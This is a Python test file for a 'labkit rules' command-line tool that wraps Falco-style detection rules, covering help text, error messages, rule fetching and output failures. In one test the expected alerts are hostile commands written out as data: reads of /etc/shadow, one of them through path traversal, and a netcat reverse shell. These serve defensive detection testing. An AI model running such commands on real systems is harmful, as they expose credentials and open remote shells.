"""`labkit rules`: the commands of falcorules under labkit's error handling, with the lab's folder."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

import falcorules.cli
from falcorules import rulesets
from falcorules.rulesets import RELEASES
from labkit.cli import main

RULES = "- rule: Shadow\n  desc: d\n  condition: evt.type = openat\n  output: o\n  priority: WARNING\n"


def _run(*arguments: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["rules", *arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit)
    return result.exit_code, result.output


def test_it_has_the_commands_of_falcorules() -> None:
    listed = _run("--help")[1]
    assert len(falcorules.cli.main.commands) == 7
    assert all(f"\n  {name} " in listed for name in falcorules.cli.main.commands)


def test_the_recorded_visit_of_the_workshop(workshop: Path) -> None:
    events = workshop / "custom-rules/recorded/visit.jsonl.gz"
    values = workshop / "custom-rules/whoami.yaml"
    code, output = _run("replay", "--default-rules", "--values", str(values), "--events", str(events))
    assert code == 0
    alerts = [json.loads(line) for line in output.splitlines()]
    assert [(alert["rule"], alert["output_fields"]["proc.cmdline"]) for alert in alerts] == [
        ("Whoami run in container", "whoami"),
        ("Read sensitive file untrusted", "cat /etc/shadow"),
        ("Read sensitive file untrusted", "cat /var/www/../../etc/shadow"),
        ("Netcat Remote Code Execution in Container", "nc -e /bin/sh 10.88.0.1 4444"),
    ]


def test_an_error_in_rules_is_told_in_two_lines(tmp_path: Path) -> None:
    file = tmp_path / "rules.yaml"
    file.write_text(RULES)
    assert _run("explain", "Shadwo", str(file)) == (
        1,
        "labkit: There is no rule 'Shadwo'.\n  What to do: Did you mean 'Shadow'?\n",
    )
    file.write_text(RULES.replace("evt.type = openat", "evt.type ="))
    code, output = _run("list", str(file))
    assert code == 1
    assert output.startswith("labkit: Rules can't be loaded: ")
    assert "  What to do: Correct the rule, then load it again." in output
    assert "Traceback" not in output


def test_published_rules_are_fetched_into_the_labs_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in RELEASES:
        (tmp_path / name).write_text(name)
    monkeypatch.setattr(rulesets, "SHA256", {name: hashlib.sha256(name.encode()).hexdigest() for name in RELEASES})
    monkeypatch.setenv("LABKIT_HOME", str(tmp_path / "home"))
    code, output = _run("fetch", "--url", tmp_path.as_uri())
    assert code == 0
    assert output.split() == [str(tmp_path / "home" / "rules" / name) for name in RELEASES]
    assert all(Path(path).read_text() == Path(path).name for path in output.split())


def test_output_that_can_t_be_written_is_an_error(tmp_path: Path) -> None:
    file = tmp_path / "rules.yaml"
    file.write_text(RULES)
    command = [sys.executable, "-m", "labkit.cli", "rules", "list", str(file)]

    def run(*command: str, stdout: int | None = None) -> tuple[int, str]:
        done = subprocess.run(command, stdout=stdout, stderr=subprocess.PIPE, text=True, check=False)
        return done.returncode, done.stderr

    full = os.open("/dev/full", os.O_WRONLY)
    reader, gone = os.pipe()
    os.close(reader)
    code, said = run(*command, stdout=full)
    assert code == 1
    assert said.startswith(f"labkit: Input or output failed: {os.strerror(errno.ENOSPC)}.\n  What to do: ")
    assert len(said.splitlines()) == 2
    assert run(*command, stdout=gone) == (1, "")
    code, said = run("sh", "-c", 'exec "$@" >&-', "sh", *command)
    assert code == 1
    assert said.startswith("labkit: Standard output is closed.\n  What to do: ")
    os.close(full)
    os.close(gone)


def test_without_a_command_it_prints_its_help() -> None:
    code, output = _run()
    assert code == 2
    assert output.startswith("Usage: main rules [OPTIONS] COMMAND")
    assert "\n  check " in output
